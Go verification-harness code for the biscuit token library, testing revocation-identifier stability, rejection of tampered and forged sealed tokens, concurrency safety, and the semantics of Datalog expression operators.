	var allIDs [][]byte
	var prev [][]byte
	var idsAtCreation [][][]byte
	for j := 0; j <= N; j++ {
		t := w.tokens[j]
		ids := t.RevocationIds()
		vObserve("nids", len(ids))
		vAssert(len(ids) == j+1, "C17.one-per-block")
		if len(ids) != j+1 {
			return
		}
		for i := range prev {
			vAssert(vBytesEq(ids[i], prev[i]), "C17.prefix-stable.append")
		}
		prev = ids
		idsAtCreation = append(idsAtCreation, append([][]byte{}, ids...))
		// independent decoding of the serialized envelope
		data, err := t.Serialize()
		vAssert(err == nil, "C17.serialize")
		if err != nil {
			return
		}
		var c pb.Biscuit
		vAssert(proto.Unmarshal(data, &c) == nil, "C17.decode")
		vAssert(vBytesEq(ids[0], c.Authority.Signature), "C17.id-is-signature")
		vAssert(len(c.Blocks) == j, "C17.decode-blocks")
		for i := 1; i <= j && i-1 < len(c.Blocks); i++ {
			vAssert(vBytesEq(ids[i], c.Blocks[i-1].Signature), "C17.id-is-signature")
		}
		// reloaded and sealed tokens keep the identifiers
		r := c16Reload(t)
		rids := r.RevocationIds()
		vAssert(len(rids) == j+1, "C17.one-per-block.reload")
		for i := range ids {
			if i < len(rids) {
				vAssert(vBytesEq(rids[i], ids[i]), "C17.prefix-stable.reload")
			}
		}
		s, err := t.Seal(w.rng)
		vAssert(err == nil, "C17.seal")
		if err == nil {
			sids := s.RevocationIds()
			vAssert(len(sids) == j+1, "C17.one-per-block.seal")
			for i := range ids {
				if i < len(sids) {
					vAssert(vBytesEq(sids[i], ids[i]), "C17.prefix-stable.seal")
				}
			}
		}
		if j == N {
			allIDs = append(allIDs, ids...)
		}
	}
	// a sibling: the same content appended again to the parent, and a second token with identical content
	// (every token that already has a child gets a second one: whichever of them has room to spare in
	// some list it keeps — lengths 1, 2, 3, 4 ... against capacities 1, 2, 4, 4 ... — is among them)
	var sibs []*Biscuit
	var sibIDs [][][]byte
	for k := N - 1; k >= 0; k-- {
		parent := w.tokens[k]
		bb := parent.CreateBlock()
		bb.AddFact(Fact{Predicate{Name: "blk", IDs: []Term{Integer(k + 1)}}})
		sib, err := parent.Append(w.rng, bb.Build())
		vAssert(err == nil, "C17.sibling")
		if err == nil {
			sids := sib.RevocationIds()
			vAssert(len(sids) == k+2, "C17.one-per-block.sibling")
			if len(sids) == k+2 {
				allIDs = append(allIDs, sids[k+1])
				for i := 0; i <= k; i++ {
					vAssert(vBytesEq(sids[i], idsAtCreation[k][i]), "C17.prefix-stable.sibling")
				}
				sibs = append(sibs, sib)
				sibIDs = append(sibIDs, append([][]byte{}, sids...))
			}
		}
	}
	b2 := NewBuilder(w.root, WithRNG(w.rng))
	b2.AddAuthorityFact(Fact{Predicate{Name: "right", IDs: []Term{Integer(0)}}})
	twin, err := b2.Build()
	vAssert(err == nil, "C17.twin")
	if err == nil {
		allIDs = append(allIDs, twin.RevocationIds()...)
	}
	distinctSeeds()
	// identifiers are stable: deriving siblings and twins changed nobody's identifiers
	for j := 0; j <= N; j++ {
		now := w.tokens[j].RevocationIds()
		vAssert(len(now) == j+1, "C17.stable-after-derivations")
		for i := range now {
			if i < len(idsAtCreation[j]) {
				vAssert(vBytesEq(now[i], idsAtCreation[j][i]), "C17.stable-after-derivations")
			}
		}
	}
	for k := range sibs {
		now := sibs[k].RevocationIds()
		vAssert(len(now) == len(sibIDs[k]), "C17.stable-after-derivations")
		for i := range now {
			if i < len(sibIDs[k]) {
				vAssert(vBytesEq(now[i], sibIDs[k][i]), "C17.stable-after-derivations")
			}
		}
	}
	for i := range allIDs {
		for j := 0; j < i; j++ {
			vAssert(vNot(vBytesEq(allIDs[i], allIDs[j])), "C17.distinct")
		}
	}
	vCover("done")
}

// VerifC09Sealed: a sealed token verifies, keeps its identifiers, cannot be extended or sealed again
// (also after a reload), and any alteration of the seal, the last block or the last key is rejected.
func VerifC09Sealed() {
	vForbidPanic("C09")
	N := vParam("blocks")
	hasID := vChoose("has-id", 2) == 1
	id := vUint32("id")
	var idp *uint32
	if hasID {
		idp = &id
	}
	w := chainBuild(N, idp)
	j := vChoose("prefix", N+1)
	t := w.tokens[j]
	s, err := t.Seal(w.rng)
	vAssert(err == nil, "C09.seal")
	if err != nil {
		return
	}
	vAssert(c16SameID(s.RootKeyID(), hasID, id), "C09.same-root-key-id")
	if vChoose("reloaded", 2) == 1 {
		s = c16Reload(s)
		vLabel("reloaded")
	}
	_, verr := s.AuthorizerFor(WithSingularRootPublicKey(w.rootPub))
	vAssert(verr == nil, "C09.sealed-verifies")
	// ... and under the same key selection by identifier as its source
	sel := WithRootPublicKeys(map[uint32]ed25519.PublicKey{id: w.rootPub}, nil)
	if !hasID {
		sel = WithRootPublicKeys(map[uint32]ed25519.PublicKey{}, &w.rootPub)
	}
	_, e1 := t.AuthorizerFor(sel)
	_, e2 := s.AuthorizerFor(sel)
	vAssert(e1 == nil, "C09.source-verifies-by-id")
	vAssert(e2 == nil, "C09.sealed-verifies-by-id")
	ids, sids := t.RevocationIds(), s.RevocationIds()
	vAssert(len(ids) == len(sids), "C09.same-ids")
	for i := range ids {
		if i < len(sids) {
			vAssert(vBytesEq(ids[i], sids[i]), "C09.same-ids")
		}
	}
	vAssert(s.BlockCount() == t.BlockCount(), "C09.same-blockcount")
	// same Datalog content, block for block, and same context
	tf, ok1 := c08Facts(t)
	sf, ok2 := c08Facts(s)
	vAssert(ok1 && ok2 && len(tf) == len(sf), "C09.same-content")
	if ok1 && ok2 && len(tf) == len(sf) {
		for i := range tf {
			vAssert(len(tf[i]) == len(sf[i]), "C09.same-content")
			for k := range tf[i] {
				if k < len(sf[i]) {
					vAssert(gFactEq(tf[i][k], sf[i][k]), "C09.same-content")
				}
			}
		}
	}
	vAssert(s.GetContext() == t.GetContext(), "C09.same-context")
	vAssert(len(s.Checks()) == len(t.Checks()), "C09.same-checks")
	// frozen
	bb := t.CreateBlock()
	bb.AddFact(Fact{Predicate{Name: "more", IDs: []Term{Integer(1)}}})
	a, aerr := s.Append(w.rng, bb.Build())
	vAssert(aerr != nil, "C09.append-refused")
	vAssert(a == nil, "C09.append-no-token")
	s2, serr := s.Seal(w.rng)
	vAssert(serr != nil, "C09.reseal-refused")
	vAssert(s2 == nil, "C09.reseal-no-token")
	vCover("frozen")

	// tampering with the sealed envelope
	c := &pb.Biscuit{Authority: s.container.Authority, Blocks: append([]*pb.SignedBlock{}, s.container.Blocks...)}
	last := c.Authority
	if len(c.Blocks) > 0 {
		last = c.Blocks[len(c.Blocks)-1]
	}
	final := s.container.Proof.GetFinalSignature()
	what := vChoose("tamper", 5)
	mod := &pb.SignedBlock{Block: last.Block, NextKey: &pb.PublicKey{Algorithm: last.NextKey.Algorithm, Key: last.NextKey.Key}, Signature: last.Signature}
	switch what {
	case 0:
		vLabel("tamper=seal-signature")
		f2 := vWide("final2", 64)
		vAssume(vNot(vBytesEq(f2, final)))
		final = f2
	case 1:
		vLabel("tamper=last-key")
		k2 := vWide("key2", 32)
		vAssume(vNot(vBytesEq(k2, last.NextKey.Key)))
		mod.NextKey.Key = k2
	case 2:
		vLabel("tamper=last-block")
		// the last block replaced by another honest block
		o := w.tokens[N].container.Authority
		if j == 0 {
			if N == 0 {
				return
			}
			o = w.tokens[N].container.Blocks[0]
		}
		mod.Block = o.Block
	case 3:
		vLabel("tamper=last-signature")
		s3 := vWide("sig2", 64)
		vAssume(vNot(vBytesEq(s3, last.Signature)))
		mod.Signature = s3
	default:
		// a coordinated forgery by someone who holds the sealed token but no secret of the chain:
		// last block swapped, own key announced, any signature, seal re-made with the own secret
		vLabel("tamper=coordinated re-seal with an attacker key")
		if j == 0 {
			return // the authority block has no predecessor key to escape from
		}
		att := vWide("attacker", 32)
		mod.Block = w.tokens[N].container.Authority.Block
		mod.NextKey.Key = vPub(att)
		mod.Signature = vWide("sig3", 64)
		// unforgeability: without the previous block's secret the forger's signature is not a valid one
		prevKey := s.container.Authority.NextKey.Key
		if len(c.Blocks) >= 2 {
			prevKey = c.Blocks[len(c.Blocks)-2].NextKey.Key
		}
		vAssume(vNot(vVerify(prevKey, cat(mod.Block, le32(0), mod.NextKey.Key), mod.Signature)))
		final = vSig(att, cat(mod.Block, le32(0), mod.NextKey.Key, mod.Signature))
	}
	if len(c.Blocks) > 0 {
		c.Blocks[len(c.Blocks)-1] = mod
	} else {
		c.Authority = mod
	}
	c.Proof = &pb.Proof{Content: &pb.Proof_FinalSignature{FinalSignature: final}}
	data, merr := proto.Marshal(c)
	vAssert(merr == nil, "C09.marshal")
	if merr != nil {
		return
	}
	tok, uerr := Unmarshal(data)
	if uerr != nil {
		vCover("tamper-rejected")
		return
	}
	_, err = tok.AuthorizerFor(WithSingularRootPublicKey(w.rootPub))
	vAssert(err != nil, "C09.tampered-rejected")
	vCover("tamper-rejected")
}
