package biscuit

// C19 — a token can be shared by concurrent goroutines (token half).
// Two goroutines each perform one operation on the same token (and the same parsed Datalog values);
// the interpreter logs every memory access with vector clocks and reports accesses to one location,
// at least one a write, that are not ordered by happens-before.

import "crypto/ed25519"

var c19OpNames = [...]string{"verify", "authorize", "query", "print", "get-block-id", "create-block", "append", "seal", "serialize", "revocation-ids"}

type c19Shared struct {
	tok     *Biscuit
	rootPub ed25519.PublicKey
	fact    Fact
	check   Check
	rule    Rule
}

func c19Op(k int, sh *c19Shared, res *int, pn int) {
	switch k {
	case 0:
		_, err := sh.tok.AuthorizerFor(WithSingularRootPublicKey(sh.rootPub), gPatient)
		if err == nil {
			*res = 1
		}
	case 1:
		a, err := sh.tok.AuthorizerFor(WithSingularRootPublicKey(sh.rootPub), gPatient)
		if err != nil {
			return
		}
		a.AddFact(sh.fact)
		a.AddCheck(sh.check)
		// a check with a regular expression that this process has not evaluated before (whatever the
		// library remembers about patterns is written, not only read, while the other goroutine runs)
		pat := "^file1"[:1+pn%6]
		a.AddFact(Fact{Predicate{Name: "nm", IDs: []Term{String("file1")}}})
		a.AddCheck(Check{Queries: []Rule{{Head: Predicate{Name: "query"}, Body: []Predicate{{Name: "nm", IDs: []Term{Variable("s")}}},
			Expressions: []Expression{{Value{Variable("s")}, Value{String(pat)}, BinaryRegex}}}}})
		a.AddPolicy(DefaultAllowPolicy)
		if a.Authorize() == nil {
			*res = 1
		}
	case 2:
		a, err := sh.tok.AuthorizerFor(WithSingularRootPublicKey(sh.rootPub), gPatient)
		if err != nil {
			return
		}
		a.AddFact(sh.fact)
		fs, err := a.Query(sh.rule)
		if err == nil {
			*res = len(fs)
		}
	case 3:
		if len(sh.tok.String()) > 0 && len(sh.tok.Code()) > 0 {
			*res = 1
		}
	case 4:
		i, err := sh.tok.GetBlockID(sh.fact)
		if err == nil {
			*res = i + 1
		}
	case 5:
		bb := sh.tok.CreateBlock()
		bb.AddFact(sh.fact)
		bb.AddCheck(sh.check)
		if bb.Build() != nil {
			*res = 1
		}
	case 6:
		bb := sh.tok.CreateBlock()
		bb.AddFact(Fact{Predicate{Name: "fresh", IDs: []Term{String("sym")}}})
		t, err := sh.tok.Append(&chainRNG{}, bb.Build())
		if err == nil && t != nil {
			*res = t.BlockCount()
		}
	case 7:
		s, err := sh.tok.Seal(&chainRNG{})
		if err == nil && s != nil {
			*res = 1
		}
	case 8:
		d, err := sh.tok.Serialize()
		if err == nil && len(d) > 0 {
			*res = 1
		}
	default:
		*res = len(sh.tok.RevocationIds())
	}
}

func VerifC19Shared() {
	vForbidPanic("C19")
	vTimerMode(0)
	// token: authority with a fact and a check, one block
	authority := gBlock{facts: []gAtom{{name: "p", c: 1}, {name: "q", c: 2}, {name: "r", c: 3}},
		checks: [][]gRule{{{body: []gAtom{{name: "p", isVar: true}}}}}}
	// the block reuses an authority symbol: the token's symbol table then holds 3 symbols in a backing
	// array of 4 (spare capacity), or 4 of 4 when the block brings its own
	bname := "p"
	if vChoose("block-own-symbol", 2) == 1 {
		bname = "u"
	}
	blocks := []gBlock{{facts: []gAtom{{name: bname, c: 10}}}}
	if vChoose("three-blocks", 2) == 1 {
		// three blocks: the envelope's block slice then has spare capacity (len 3, cap 4)
		blocks = append(blocks, gBlock{facts: []gAtom{{name: "p", c: 11}}}, gBlock{facts: []gAtom{{name: "p", c: 12}}})
	}
	g := gBuildToken(authority, blocks)
	tok := g.tok
	if vChoose("reloaded", 2) == 1 {
		tok = c16Reload(tok)
		vLabel("token reloaded from bytes")
	} else {
		vLabel("token as built")
	}
	sh := &c19Shared{tok: tok, rootPub: g.rootPub}
	sh.fact = Fact{Predicate{Name: "p", IDs: []Term{Integer(1)}}}
	if vChoose("lookup-unknown-symbols", 2) == 1 {
		// a fact whose symbols the token has never seen
		sh.fact = Fact{Predicate{Name: "zz", IDs: []Term{String("yy")}}}
	}
	sh.rule = Rule{Head: Predicate{Name: "out", IDs: []Term{Variable("v")}}, Body: []Predicate{{Name: "p", IDs: []Term{Variable("v")}}}}
	sh.check = Check{Queries: []Rule{{Head: Predicate{Name: "query"}, Body: []Predicate{{Name: "p", IDs: []Term{Variable("v")}}}}}}
	n := len(c19OpNames)
	i := vChoose("op1", n)
	j := i + vChoose("op2", n-i)
	vObserve("pair", c19OpNames[i]+"+"+c19OpNames[j])
	// what each operation yields when it runs alone
	var alone1, alone2 int
	c19Op(i, sh, &alone1, 1)
	c19Op(j, sh, &alone2, 2)
	var r1, r2 int
	done := make(chan struct{})
	vRaceDetect("C19")
	go func() {
		c19Op(i, sh, &r1, 3)
		done <- struct{}{}
	}()
	go func() {
		c19Op(j, sh, &r2, 4)
		done <- struct{}{}
	}()
	<-done
	<-done
	vCover("ran")
	vObserve("r1", r1)
	vObserve("r2", r2)
	vAssert(r1 == alone1, "C19.same-result-as-alone")
	vAssert(r2 == alone2, "C19.same-result-as-alone")
}
