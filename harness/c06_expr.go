package datalog

// C06 — expressions are total, typed and arithmetically exact.
// Harness: every operator on operands of every dynamic type with symbolic values, compared with a
// reference written from the operator table. Interpreted symbolically by gosym; replayed natively.

import "errors"

const (
	kVar = iota
	kInt
	kStr
	kDate
	kBytes
	kBool
	kSet
	nKinds
)

// c06Syms builds the symbol table used by the harness: two symbolic strings.
func c06Syms(l0, l1 int) *SymbolTable {
	return &SymbolTable{vString("sym0", l0), vString("sym1", l1)}
}

// c06Scalar makes a term of the given scalar kind with symbolic content.
func c06Scalar(name string, kind int, nsyms int) Term {
	switch kind {
	case kVar:
		return Variable(vUint32(name + ".var"))
	case kInt:
		return Integer(vInt64(name + ".int"))
	case kStr:
		// symbol index: a default symbol, a table symbol, or an index past the table
		switch vChoose(name+".strclass", 4) {
		case 0:
			return String(0) // "read"
		case 1:
			return String(1024)
		case 2:
			return String(1025)
		default:
			return String(1024 + uint64(nsyms)) // one past the table: renders as "<invalid symbol N>"
		}
	case kDate:
		return Date(vUint64(name + ".date"))
	case kBytes:
		return Bytes(vBytes(name+".bytes", vChoose(name+".byteslen", 3)))
	case kBool:
		return Bool(vBool(name + ".bool"))
	}
	panic("bad kind")
}

func c06Term(name string, kind int, nsyms int) Term {
	if kind != kSet {
		return c06Scalar(name, kind, nsyms)
	}
	ek := 1 + vChoose(name+".eltkind", 5) // kInt..kBool
	n := vChoose(name+".setlen", 3)
	s := make(Set, 0, n)
	for i := 0; i < n; i++ {
		e := c06Scalar(name+".elt", ek, nsyms)
		// sets written without repeated elements, unless the family asks for repetitions: the parser, the
		// builders and the decoder all let [1, 1] through, it denotes the set {1}
		if vParamOpt("dupsets") == 0 {
			for _, o := range s {
				vAssume(vNot(refTermEq(e, o)))
			}
		}
		s = append(s, e)
	}
	return s
}

// refTermEq: structural equality of two terms, written without the implementation's Equal methods.
func refTermEq(a, b Term) bool {
	switch x := a.(type) {
	case Variable:
		y, ok := b.(Variable)
		return ok && x == y
	case Integer:
		y, ok := b.(Integer)
		return ok && x == y
	case String:
		y, ok := b.(String)
		return ok && x == y
	case Date:
		y, ok := b.(Date)
		return ok && x == y
	case Bool:
		y, ok := b.(Bool)
		return ok && x == y
	case Bytes:
		y, ok := b.(Bytes)
		return ok && vBytesEq(x, y)
	case Set:
		y, ok := b.(Set)
		if !ok {
			return false
		}
		return vAnd(refSubset(x, y), refSubset(y, x))
	}
	return false
}

func refMember(e Term, s Set) bool {
	r := false
	for _, o := range s {
		r = vOr(r, refTermEq(e, o))
	}
	return r
}

func refSubset(a, b Set) bool {
	r := true
	for _, e := range a {
		r = vAnd(r, refMember(e, b))
	}
	return r
}

func kindOf(t Term) int {
	switch t.(type) {
	case Variable:
		return kVar
	case Integer:
		return kInt
	case String:
		return kStr
	case Date:
		return kDate
	case Bytes:
		return kBytes
	case Bool:
		return kBool
	case Set:
		return kSet
	}
	return -1
}

// refStr resolves a symbol index like the specification: default table below 1024, then the table.
func refStr(syms *SymbolTable, s String) (string, bool) {
	if s < 1024 {
		if int(s) < len(DEFAULT_SYMBOLS) {
			return DEFAULT_SYMBOLS[s], true
		}
		return "", false
	}
	if s-1024 < String(len(*syms)) {
		return (*syms)[s-1024], true
	}
	return "", false
}

// refResult is the expected outcome of one operation.
type refResult struct {
	isErr   bool   // (symbolic) an error is expected
	errIs   error  // non-nil: the error must satisfy errors.Is with this sentinel
	kind    int    // kind of the expected value
	b       bool   // kBool
	i       int64  // kInt
	s       string // kStr: expected text
	strOK   bool   // kStr: text is known
	set     Set    // kSet (as a set)
	same    Term   // non-nil: result must equal this term
	skip    bool   // outside the reference (unknown symbol text)
}

func refErr() refResult { return refResult{isErr: true} }

func refBinary(op BinaryOpType, l, r Term, syms *SymbolTable) refResult {
	lk, rk := kindOf(l), kindOf(r)
	switch op {
	case BinaryLessThan, BinaryLessOrEqual, BinaryGreaterThan, BinaryGreaterOrEqual:
		if lk == kInt && rk == kInt {
			a, b := int64(l.(Integer)), int64(r.(Integer))
			switch op {
			case BinaryLessThan:
				return refResult{kind: kBool, b: a < b}
			case BinaryLessOrEqual:
				return refResult{kind: kBool, b: a <= b}
			case BinaryGreaterThan:
				return refResult{kind: kBool, b: a > b}
			}
			return refResult{kind: kBool, b: a >= b}
		}
		if lk == kDate && rk == kDate {
			a, b := uint64(l.(Date)), uint64(r.(Date))
			switch op {
			case BinaryLessThan:
				return refResult{kind: kBool, b: a < b}
			case BinaryLessOrEqual:
				return refResult{kind: kBool, b: a <= b}
			case BinaryGreaterThan:
				return refResult{kind: kBool, b: a > b}
			}
			return refResult{kind: kBool, b: a >= b}
		}
		return refErr()
	case BinaryEqual:
		if lk != rk || lk == kVar {
			return refErr()
		}
		return refResult{kind: kBool, b: refTermEq(l, r)}
	case BinaryContains:
		if lk == kStr {
			if rk != kStr {
				return refErr()
			}
			a, ok1 := refStr(syms, l.(String))
			b, ok2 := refStr(syms, r.(String))
			if !ok1 || !ok2 {
				return refResult{skip: true}
			}
			return refResult{kind: kBool, b: refContains(a, b)}
		}
		if lk != kSet || rk == kVar {
			return refErr()
		}
		if rk == kSet {
			return refResult{kind: kBool, b: refSubset(r.(Set), l.(Set))}
		}
		return refResult{kind: kBool, b: refMember(r, l.(Set))}
	case BinaryPrefix, BinarySuffix:
		if lk != kStr || rk != kStr {
			return refErr()
		}
		a, ok1 := refStr(syms, l.(String))
		b, ok2 := refStr(syms, r.(String))
		if !ok1 || !ok2 {
			return refResult{skip: true}
		}
		if len(b) > len(a) {
			return refResult{kind: kBool, b: false}
		}
		if op == BinaryPrefix {
			return refResult{kind: kBool, b: vStrEq(a[:len(b)], b)}
		}
		return refResult{kind: kBool, b: vStrEq(a[len(a)-len(b):], b)}
	case BinaryRegex:
		if lk != kStr || rk != kStr {
			return refErr()
		}
		return refResult{skip: true} // regex semantics are concretised elsewhere
	case BinaryAdd:
		if lk == kStr {
			if rk != kStr {
				return refErr()
			}
			a, ok1 := refStr(syms, l.(String))
			b, ok2 := refStr(syms, r.(String))
			if !ok1 || !ok2 {
				return refResult{skip: true}
			}
			return refResult{kind: kStr, s: a + b, strOK: true}
		}
		if lk != kInt || rk != kInt {
			return refErr()
		}
		a, b := int64(l.(Integer)), int64(r.(Integer))
		return refResult{kind: kInt, i: a + b, isErr: vOvfAdd(a, b), errIs: ErrInt64Overflow}
	case BinarySub:
		if lk != kInt || rk != kInt {
			return refErr()
		}
		a, b := int64(l.(Integer)), int64(r.(Integer))
		return refResult{kind: kInt, i: a - b, isErr: vOvfSub(a, b), errIs: ErrInt64Overflow}
	case BinaryMul:
		if lk != kInt || rk != kInt {
			return refErr()
		}
		a, b := int64(l.(Integer)), int64(r.(Integer))
		return refResult{kind: kInt, i: a * b, isErr: vOvfMul(a, b), errIs: ErrInt64Overflow}
	case BinaryDiv:
		if lk != kInt || rk != kInt {
			return refErr()
		}
		a, b := int64(l.(Integer)), int64(r.(Integer))
		if b == 0 {
			return refResult{isErr: true, errIs: ErrExprDivByZero}
		}
		// the only quotient that does not fit: MinInt64 / -1
		ovf := vAnd(a == -9223372036854775808, b == -1)
		return refResult{kind: kInt, i: a / b, isErr: ovf, errIs: ErrInt64Overflow}
	case BinaryAnd:
		if lk != kBool || rk != kBool {
			return refErr()
		}
		return refResult{kind: kBool, b: vAnd(bool(l.(Bool)), bool(r.(Bool)))}
	case BinaryOr:
		if lk != kBool || rk != kBool {
			return refErr()
		}
		return refResult{kind: kBool, b: vOr(bool(l.(Bool)), bool(r.(Bool)))}
	case BinaryIntersection, BinaryUnion:
		if lk != kSet || rk != kSet {
			return refErr()
		}
		a, b := l.(Set), r.(Set)
		out := Set{}
		if op == BinaryUnion {
			out = append(out, a...)
			out = append(out, b...)
			return refResult{kind: kSet, set: out}
		}
		// intersection is described by membership: x in out <=> x in a and x in b
		return refResult{kind: kSet, set: nil, same: nil, skip: false, b: true, i: 1}
	}
	return refErr()
}

func refContains(a, b string) bool {
	if len(b) > len(a) {
		return false
	}
	r := false
	for i := 0; i+len(b) <= len(a); i++ {
		r = vOr(r, vStrEq(a[i:i+len(b)], b))
	}
	return r
}

func c06BinaryOp(k int) BinaryOpFunc {
	switch BinaryOpType(k) {
	case BinaryLessThan:
		return LessThan{}
	case BinaryLessOrEqual:
		return LessOrEqual{}
	case BinaryGreaterThan:
		return GreaterThan{}
	case BinaryGreaterOrEqual:
		return GreaterOrEqual{}
	case BinaryEqual:
		return Equal{}
	case BinaryContains:
		return Contains{}
	case BinaryPrefix:
		return Prefix{}
	case BinarySuffix:
		return Suffix{}
	case BinaryRegex:
		return Regex{}
	case BinaryAdd:
		return Add{}
	case BinarySub:
		return Sub{}
	case BinaryMul:
		return Mul{}
	case BinaryDiv:
		return Div{}
	case BinaryAnd:
		return And{}
	case BinaryOr:
		return Or{}
	case BinaryIntersection:
		return Intersection{}
	case BinaryUnion:
		return Union{}
	}
	panic("bad op")
}

var c06OpNames = [...]string{"LessThan", "LessOrEqual", "GreaterThan", "GreaterOrEqual", "Equal", "Contains", "Prefix", "Suffix", "Regex", "Add", "Sub", "Mul", "Div", "And", "Or", "Intersection", "Union"}
var c06KindNames = [...]string{"Variable", "Integer", "String", "Date", "Bytes", "Bool", "Set"}

// c06CheckBinary compares one evaluation with the reference.
// pre is the symbol table before the evaluation (operands resolve through it), post the table after
// it (a concatenation result resolves through it).
func c06CheckBinary(op BinaryOpType, l, r Term, pre, post *SymbolTable, res Term, err error, id string) {
	vAssert((res == nil) != (err == nil), id+".exactly-one")
	ref := refBinary(op, l, r, pre)
	syms := post
	if ref.skip {
		vCover("skip")
		return
	}
	if op == BinaryIntersection && !ref.isErr && ref.i == 1 && kindOf(l) == kSet && kindOf(r) == kSet {
		// membership characterisation of the intersection
		vAssert(err == nil, id+".error")
		if err != nil {
			return
		}
		out, ok := res.(Set)
		vAssert(ok, id+".kind")
		if !ok {
			return
		}
		a, b := l.(Set), r.(Set)
		good := true
		for _, e := range out {
			good = vAnd(good, vAnd(refMember(e, a), refMember(e, b)))
		}
		for _, e := range a {
			good = vAnd(good, vImplies(refMember(e, b), refMember(e, out)))
		}
		vAssert(good, id+".value")
		if vParamOpt("dupsets") == 0 {
			vAssert(c06NoDup(out), id+".nodup")
		}
		return
	}
	vAssert((err != nil) == ref.isErr, id+".error")
	if err != nil {
		if ref.errIs != nil {
			vAssert(vImplies(ref.isErr, errors.Is(err, ref.errIs)), id+".errkind")
		}
		return
	}
	if res == nil {
		return
	}
	vAssert(kindOf(res) == ref.kind, id+".kind")
	switch ref.kind {
	case kBool:
		if v, ok := res.(Bool); ok {
			vAssert(bool(v) == ref.b, id+".value")
		}
	case kInt:
		if v, ok := res.(Integer); ok {
			vAssert(int64(v) == ref.i, id+".value")
		}
	case kStr:
		if v, ok := res.(String); ok {
			got, known := refStr(syms, v)
			vAssert(known, id+".value")
			if known {
				vAssert(vStrEq(got, ref.s), id+".value")
			}
		}
	case kSet:
		if v, ok := res.(Set); ok {
			vAssert(vAnd(refSubset(v, ref.set), refSubset(ref.set, v)), id+".value")
			if vParamOpt("dupsets") == 0 {
				vAssert(c06NoDup(v), id+".nodup")
			}
		}
	}
}

func c06NoDup(s Set) bool {
	r := true
	for i := range s {
		for j := 0; j < i; j++ {
			r = vAnd(r, vNot(refTermEq(s[i], s[j])))
		}
	}
	return r
}

// refDistinct: the number of distinct elements of a set as written.
func refDistinct(s Set) int64 {
	var n int64
	for i := range s {
		seen := false
		for j := 0; j < i; j++ {
			seen = vOr(seen, refTermEq(s[i], s[j]))
		}
		n += vIteInt64(seen, 0, 1)
	}
	return n
}

// VerifC06Binary: one binary operator applied to two operands of any dynamic type.
func VerifC06Binary() {
	vForbidPanic("C06")
	op := vChoose("op", 17)
	lk := vChoose("lkind", nKinds)
	rk := vChoose("rkind", nKinds)
	if vParamOpt("dupsets") != 0 && (lk != kSet && rk != kSet) {
		return // the family with repeated elements is about set operands
	}
	vLabel("op=" + c06OpNames[op] + " left=" + c06KindNames[lk] + " right=" + c06KindNames[rk])
	syms := c06Syms(1, 2)
	l := c06Term("l", lk, len(*syms))
	r := c06Term("r", rk, len(*syms))
	if BinaryOpType(op) == BinaryRegex && lk == kStr && rk == kStr {
		vCover("regex-skipped")
		return // regular expressions are exercised on concrete strings in VerifC06Regex
	}
	pre := &SymbolTable{(*syms)[0], (*syms)[1]}
	lc, rc := c06Copy(l), c06Copy(r)
	res, err := c06BinaryOp(op).Eval(l, r, syms)
	// evaluation reads its operands: the values bound to the variables of a rule are shared with the facts
	vAssert(vAnd(c06Same(l, lc), c06Same(r, rc)), "C06.binary.operands-unchanged")
	vCover("evaluated")
	if err != nil {
		vCover("error")
	} else {
		vCover("value")
	}
	vObserve("err", err != nil)
	c06CheckBinary(BinaryOpType(op), l, r, pre, syms, res, err, "C06.binary")
}

// VerifC06Strings: string operators over symbolic strings of every length combination up to the bound.
func VerifC06Strings() {
	vForbidPanic("C06")
	maxLen := vParam("strlen")
	l0 := vChoose("len0", maxLen+1)
	l1 := vChoose("len1", maxLen+1)
	syms := c06Syms(l0, l1)
	ops := [...]BinaryOpType{BinaryEqual, BinaryContains, BinaryPrefix, BinarySuffix, BinaryAdd}
	op := ops[vChoose("sop", len(ops))]
	vLabel("op=" + c06OpNames[op] + " strings")
	var l, r Term
	switch vChoose("which", 3) {
	case 0:
		l, r = String(1024), String(1025)
	case 1:
		l, r = String(1025), String(1024)
	default:
		l, r = String(1024), String(1024)
	}
	pre := &SymbolTable{(*syms)[0], (*syms)[1]}
	res, err := c06BinaryOp(int(op)).Eval(l, r, syms)
	vCover("evaluated")
	c06CheckBinary(op, l, r, pre, syms, res, err, "C06.strings")
	// evaluation must not disturb the symbols that were already in the table
	vAssert(len(*syms) >= 2, "C06.strings.table")
	if len(*syms) >= 2 {
		vAssert(vAnd(vStrEq((*syms)[0], (*pre)[0]), vStrEq((*syms)[1], (*pre)[1])), "C06.strings.table")
	}
	// length
	lres, lerr := Length{}.Eval(l, syms)
	vAssert(lerr == nil, "C06.strings.length")
	if lerr == nil {
		ls, _ := refStr(syms, l.(String))
		vAssert(lres.(Integer) == Integer(len(ls)), "C06.strings.length")
	}
}

// VerifC06Unary: the three unary operators on every operand type.
func VerifC06Unary() {
	vForbidPanic("C06")
	op := vChoose("uop", 3)
	k := vChoose("kind", nKinds)
	if vParamOpt("dupsets") != 0 && k != kSet {
		return
	}
	vLabel("uop=" + [...]string{"Negate", "Parens", "Length"}[op] + " operand=" + c06KindNames[k])
	syms := c06Syms(1, 2)
	v := c06Term("v", k, len(*syms))
	var f UnaryOpFunc
	switch UnaryOpType(op) {
	case UnaryNegate:
		f = Negate{}
	case UnaryParens:
		f = Parens{}
	default:
		f = Length{}
	}
	res, err := f.Eval(v, syms)
	vCover("evaluated")
	vAssert((res == nil) != (err == nil), "C06.unary.exactly-one")
	switch UnaryOpType(op) {
	case UnaryNegate:
		vAssert((err == nil) == (k == kBool), "C06.unary.error")
		if err == nil && k == kBool {
			vAssert(res.(Bool) == !v.(Bool), "C06.unary.value")
		}
	case UnaryParens:
		vAssert(err == nil, "C06.unary.error")
		if err == nil {
			vAssert(refTermEq(res, v), "C06.unary.value")
		}
	default:
		okKind := k == kStr || k == kBytes || k == kSet
		vAssert((err == nil) == okKind, "C06.unary.error")
		if err == nil && okKind {
			n, isInt := res.(Integer)
			vAssert(isInt, "C06.unary.kind")
			switch x := v.(type) {
			case Bytes:
				vAssert(n == Integer(len(x)), "C06.unary.value")
			case Set:
				vAssert(n == Integer(refDistinct(x)), "C06.unary.value")
			case String:
				s, known := refStr(syms, x)
				if known {
					vAssert(n == Integer(len(s)), "C06.unary.value")
				}
			}
		}
	}
}

// VerifC06StrIndex: a String term whose symbol index is any 64-bit value must never crash evaluation.
func VerifC06StrIndex() {
	vForbidPanic("C06")
	syms := c06Syms(1, 2)
	id := vUint64("symidx")
	vLabel("symbol index symbolic")
	// the kernel every string operator goes through
	_ = syms.Str(String(id))
	_ = syms.Var(Variable(vUint32("varidx")))
	vCover("evaluated")
	// a concrete out-of-table index through an operator
